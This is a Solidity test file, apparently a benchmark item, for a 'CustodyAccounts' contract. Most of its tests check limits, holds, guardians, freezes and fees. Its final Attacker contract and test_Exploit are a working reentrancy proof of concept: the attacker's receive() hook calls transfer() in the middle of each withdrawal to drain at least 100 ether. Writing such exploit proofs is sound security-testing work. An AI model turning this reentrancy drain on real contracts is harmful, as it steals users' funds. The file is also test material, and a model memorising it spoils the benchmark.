// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./CustodyAccounts.sol";

// assay-canary-838c8308-92f8-46e6-9eb0-6baac74713bb

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = payable(address(0xA9A));
    address payable private constant BEN = payable(address(0xBE9));
    address payable private constant CAT = payable(address(0xCA7));
    address payable private constant GUS = payable(address(0x605));
    uint256 private constant START = 1_700_006_400; // when a day begins

    CustodyAccounts private custody;
    Attacker private mallory;
    uint256 private ana;
    uint256 private ben;

    function setUp() public {
        vm.warp(START);
        custody = new CustodyAccounts(20);
        vm.deal(address(this), 200 ether);
        vm.prank(ANA);
        ana = custody.open(GUS, 40 ether);
        vm.prank(BEN);
        ben = custody.open(address(0), 100 ether);
        custody.deposit{value: 80 ether}(ana);
        custody.deposit{value: 50 ether}(ben);
        mallory = new Attacker(custody);
        vm.deal(address(mallory), 10 ether);
    }

    function balanceOf(uint256 id) private view returns (uint256) {
        return custody.accountOf(id).balance;
    }

    function test_Regular() public {
        require(custody.lastAccount() == 2 && custody.spendable(ana) == 40 ether, "opened");
        vm.startPrank(ANA);
        require(custody.withdraw(ana, CAT, 10 ether) == 9.98 ether && CAT.balance == 9.98 ether, "withdrawn");
        custody.transfer(ana, ben, 5 ether);
        uint256 hold = custody.hold(ana, ben, 20 ether, 10 days);
        require(custody.holdOf(hold).amount == 20 ether && custody.spentToday(ana) == 35 ether, "held");
        require(custody.spendable(ana) == 5 ether && balanceOf(ana) == 45 ether, "spent");
        custody.setLimit(ana, 50 ether);
        require(custody.limitOf(ana) == 40 ether, "not yet");
        vm.stopPrank();
        vm.prank(BEN);
        custody.capture(hold, 15 ether);
        require(balanceOf(ana) == 50 ether && balanceOf(ben) == 70 ether, "captured");
        vm.warp(START + 1 days);
        require(custody.limitOf(ana) == 50 ether, "higher");
        vm.startPrank(ANA);
        custody.setLimit(ana, 30 ether);
        require(custody.limitOf(ana) == 30 ether, "lower");
        custody.withdraw(ana, ANA, 1 ether);
        hold = custody.hold(ana, ben, 3 ether, 1 days);
        vm.warp(START + 2 days);
        custody.release(hold);
        require(balanceOf(ana) == 49 ether, "back when expired");
        hold = custody.hold(ana, ben, 3 ether, 1 days);
        vm.stopPrank();
        vm.prank(BEN);
        custody.release(hold);
        uint256[] memory to = new uint256[](2);
        uint256[] memory amounts = new uint256[](2);
        vm.prank(CAT);
        to[0] = custody.open(address(0), 1 ether);
        (to[1], amounts[0], amounts[1]) = (ben, 2 ether, 4 ether);
        vm.startPrank(ANA);
        custody.transferMany(ana, to, amounts);
        require(balanceOf(ana) == 43 ether && balanceOf(to[0]) == 2 ether && balanceOf(ben) == 74 ether, "several");
        custody.setGuardian(ana, CAT);
        custody.nominate(ana, BEN);
        vm.stopPrank();
        vm.prank(BEN);
        custody.takeOver(ana);
        vm.startPrank(CAT);
        custody.freeze(ana);
        require(custody.spendable(ana) == 0, "frozen");
        vm.warp(START + 182 days);
        custody.recover(ana, CAT);
        custody.withdraw(ana, CAT, 10 ether);
        vm.stopPrank();
        require(custody.accountOf(ana).owner == CAT && balanceOf(ana) == 33 ether, "recovered");
        custody.setFee(50);
        custody.collectFees(GUS);
        require(GUS.balance == 0.042 ether && custody.fees() == 0 && custody.fee() == 50, "fees");
        custody.transferOwnership(ANA);
        vm.startPrank(ANA);
        custody.acceptOwnership();
        custody.renounceOwnership();
        vm.stopPrank();
    }

    function notOwner(uint256 id) private {
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NotAccountOwner.selector, id, CAT));
    }

    function test_RefusesStrangers() public {
        vm.prank(ANA);
        uint256 hold = custody.hold(ana, ben, 1 ether, 1 days);
        uint256[] memory none = new uint256[](0);
        vm.warp(START + 200 days);
        vm.startPrank(CAT);
        notOwner(ana);
        custody.nominate(ana, CAT);
        notOwner(ana);
        custody.setGuardian(ana, CAT);
        notOwner(ana);
        custody.setLimit(ana, 1);
        notOwner(ana);
        custody.withdraw(ana, CAT, 1);
        notOwner(ana);
        custody.transfer(ana, ben, 1);
        notOwner(ana);
        custody.transferMany(ana, none, none);
        notOwner(ana);
        custody.hold(ana, ben, 1, 1 days);
        notOwner(ben);
        custody.capture(hold, 1);
        notOwner(ana);
        custody.release(hold);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NotNominee.selector, ana, CAT));
        custody.takeOver(ana);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NotGuardian.selector, ana, CAT));
        custody.freeze(ana);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NotGuardian.selector, ana, CAT));
        custody.recover(ana, CAT);
        vm.expectRevert("Ownable: caller is not the owner");
        custody.setFee(1);
        vm.expectRevert("Ownable: caller is not the owner");
        custody.collectFees(CAT);
        vm.stopPrank();
    }

    function frozen(uint256 id) private {
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.StillFrozen.selector, id, START + 7 days));
    }

    function test_RefusesFrozen() public {
        vm.prank(BEN);
        uint256 hold = custody.hold(ben, ana, 1 ether, 1 days);
        vm.prank(ANA);
        custody.nominate(ana, CAT);
        vm.prank(GUS);
        custody.freeze(ana);
        uint256[] memory none = new uint256[](0);
        vm.warp(START + 7 days - 1);
        vm.prank(CAT);
        frozen(ana);
        custody.takeOver(ana);
        vm.startPrank(ANA);
        frozen(ana);
        custody.nominate(ana, CAT);
        frozen(ana);
        custody.setGuardian(ana, CAT);
        frozen(ana);
        custody.setLimit(ana, 1);
        frozen(ana);
        custody.withdraw(ana, CAT, 1);
        frozen(ana);
        custody.transfer(ana, ben, 1);
        frozen(ana);
        custody.transferMany(ana, none, none);
        frozen(ana);
        custody.hold(ana, ben, 1, 1 days);
        frozen(ana);
        custody.capture(hold, 1);
        vm.stopPrank();
    }

    function test_RefusesGuardians() public {
        vm.startPrank(GUS);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.TooSoon.selector, START + 180 days));
        custody.recover(ana, GUS);
        custody.freeze(ana);
        vm.warp(START + 14 days - 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.TooSoon.selector, START + 14 days));
        custody.freeze(ana);
        vm.warp(START + 180 days);
        vm.expectRevert(ICustodyAccounts.ZeroAddress.selector);
        custody.recover(ana, address(0));
        custody.freeze(ana);
        vm.stopPrank();
    }

    function test_RefusesSpending() public {
        vm.startPrank(ANA);
        vm.expectRevert(ICustodyAccounts.ZeroAddress.selector);
        custody.withdraw(ana, payable(address(0)), 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.LimitExceeded.selector, 40 ether, 40 ether + 1));
        custody.withdraw(ana, ANA, 40 ether + 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.LimitExceeded.selector, 40 ether, 40 ether + 1));
        custody.transfer(ana, ben, 40 ether + 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.SameAccount.selector, ana));
        custody.transfer(ana, ana, 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NoAccount.selector, 9));
        custody.transfer(ana, 9, 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NoAccount.selector, 9));
        custody.hold(ana, 9, 1, 1 days);
        vm.expectRevert(ICustodyAccounts.ZeroAmount.selector);
        custody.hold(ana, ben, 0, 1 days);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.BadTerm.selector, 0));
        custody.hold(ana, ben, 1, 0);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.BadTerm.selector, 30 days + 1));
        custody.hold(ana, ben, 1, 30 days + 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.LengthMismatch.selector, 1, 0));
        custody.transferMany(ana, new uint256[](1), new uint256[](0));
        vm.stopPrank();
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.InsufficientBalance.selector, 50 ether, 50 ether + 1));
        custody.withdraw(ben, BEN, 50 ether + 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.InsufficientBalance.selector, 50 ether, 50 ether + 1));
        custody.transfer(ben, ana, 50 ether + 1);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NoAccount.selector, 9));
        custody.deposit{value: 1}(9);
    }

    function test_RefusesHolds() public {
        vm.prank(ANA);
        uint256 hold = custody.hold(ana, ben, 1 ether, 1 days);
        vm.startPrank(BEN);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.InsufficientBalance.selector, 1 ether, 1 ether + 1));
        custody.capture(hold, 1 ether + 1);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.warp(START + 1 days - 1);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.TooSoon.selector, START + 1 days));
        custody.release(hold);
        vm.warp(START + 1 days);
        custody.release(hold);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.NoHold.selector, hold));
        custody.release(hold);
        vm.stopPrank();
    }

    function test_RefusesFees() public {
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.FeeTooHigh.selector, 101));
        new CustodyAccounts(101);
        vm.expectRevert(abi.encodeWithSelector(ICustodyAccounts.FeeTooHigh.selector, 101));
        custody.setFee(101);
        vm.expectRevert(ICustodyAccounts.ZeroAddress.selector);
        custody.collectFees(payable(address(0)));
    }

    function test_RefusesNesting() public {
        Nester nester = new Nester();
        nester.custody().deposit{value: 10 ether}(nester.id());
        nester.run();
        require(nester.refusals() == 2, "locked");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 100 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(custody);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

// A custodian with an account, who comes back while being paid.
contract Nester {
    CustodyAccounts public custody = new CustodyAccounts(20);
    uint256 public id = custody.open(address(0), 100 ether);
    uint256 public refusals;

    function run() external {
        custody.withdraw(id, payable(address(this)), 1 ether);
    }

    function attempt(bytes memory data) private {
        (bool done, bytes memory reason) = address(custody).call(data);
        bytes memory locked = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        if (!done && keccak256(reason) == keccak256(locked)) refusals++;
    }

    receive() external payable {
        attempt(abi.encodeCall(custody.withdraw, (id, payable(address(0xCA7)), 0.5 ether)));
        attempt(abi.encodeCall(custody.collectFees, (payable(address(0xCA7)))));
    }
}

contract Attacker {
    CustodyAccounts private custody;
    uint256 private from;
    uint256 private to;

    constructor(CustodyAccounts c) {
        custody = c;
    }

    function run() external {
        from = custody.open(address(0), 1_000 ether);
        to = custody.open(address(0), 1_000 ether);
        custody.deposit{value: 10 ether}(from);
        for (uint256 i = 0; i < 12; i++) {
            custody.withdraw(from, payable(address(this)), 10 ether);
            (from, to) = (to, from);
        }
    }

    receive() external payable {
        custody.transfer(from, to, 10 ether);
    }
}
